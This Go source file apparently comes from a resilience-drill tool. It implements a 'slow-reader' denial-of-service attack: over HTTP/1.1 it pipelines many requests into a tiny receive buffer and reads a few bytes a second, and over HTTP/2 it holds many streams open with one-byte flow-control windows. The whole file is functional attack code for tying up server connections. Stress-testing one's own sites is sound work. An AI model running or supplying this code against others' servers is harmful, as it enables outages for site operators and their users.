package attack

import (
	"context"
	"net/netip"
	"sync"
	"time"

	"golang.org/x/net/http2"

	"kontor/drill/browser"
)

func init() { kinds["slow-reader"] = newSlowReader }

// A slow reader asks so many times at once, so that the answers are more than
// the buffers between hold, and takes so little of them a second.
const (
	readerAsks   = 32
	readerBuffer = 4 << 10 // bytes of the receiving socket; the system may give twice as many
	readerBite   = 64      // bytes below TLS
	readerWindow = 1       // bytes of each answer, over HTTP/2
	readerEvery  = time.Second
)

// newSlowReader holds connections that ask for pages and hardly read the
// answers: over HTTP/1.1 many in a row into a tiny receive buffer, over HTTP/2
// many at once with a window of a byte each. A site that gives up shows this
// only once its last bytes were read: its own count of connections is the one to
// trust.
func newSlowReader(p Params) (Attack, error) {
	return p.hold(func(ctx context.Context, t Target, from netip.Addr, i uint64) (Outcome, error) {
		if err := t.check(p); err != nil {
			return Broken, err
		}
		g, err := t.grip(ctx, from, offer(i))
		if err != nil {
			return Broken, err
		}
		defer g.Close()
		r := t.page(browser.Desk, t.wish(p.Path, mix(p.Seed+i)), "", nil)
		if g.protocol == "h2" {
			return g.readTwo(ctx, &r)
		}
		return Broken, g.readOne(ctx, &r)
	})
}

// readOne reads below TLS, so that the window is as small as the bites, until
// the site closes; what the answers were lies behind the encryption.
func (g *grip) readOne(ctx context.Context, r *request) error {
	socket := bottom(g.Conn)
	if s, ok := socket.(*carried); ok {
		if err := s.SetReadBuffer(readerBuffer); err != nil {
			return err
		}
	}
	var asked []byte
	for range readerAsks {
		asked = append(r.text(asked, 0), "\r\n"...)
	}
	if _, err := g.Write(asked); err != nil {
		return err
	}
	var bite [readerBite]byte
	for pause(ctx, readerEvery) {
		if _, err := socket.Read(bite[:]); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// readTwo gives each answer a byte of window a second until the site closes or
// has ended all.
func (g *grip) readTwo(ctx context.Context, r *request) (Outcome, error) {
	f, err := g.frames(readerWindow)
	if err != nil {
		return Broken, err
	}
	var (
		mu   sync.Mutex
		open = map[uint32]bool{}
		last = Broken
	)
	for id := uint32(1); id < 2*f.streams(readerAsks); id += 2 {
		block, err := f.headers(r, 0)
		if err == nil {
			err = f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
		}
		if err != nil {
			return Broken, err
		}
		open[id] = true
	}
	if err := f.send(); err != nil {
		return Broken, err
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var reading sync.WaitGroup
	defer reading.Wait()
	defer g.Conn.SetReadDeadline(time.Now()) // evaluated now, so that the reader ends as soon as we do
	reading.Go(func() {
		defer cancel()
		f.listen(
			func(_ uint32, o Outcome) { mu.Lock(); defer mu.Unlock(); last = o },
			func(id uint32) { mu.Lock(); defer mu.Unlock(); delete(open, id) })
	})
	for pause(ctx, readerEvery) {
		mu.Lock()
		for id := range open {
			if err := f.fr.WriteWindowUpdate(id, readerWindow); err != nil {
				mu.Unlock()
				return Broken, err
			}
		}
		left := len(open)
		mu.Unlock()
		if left == 0 {
			break
		}
		if err := f.send(); err != nil {
			break
		}
	}
	mu.Lock()
	defer mu.Unlock()
	return last, nil
}
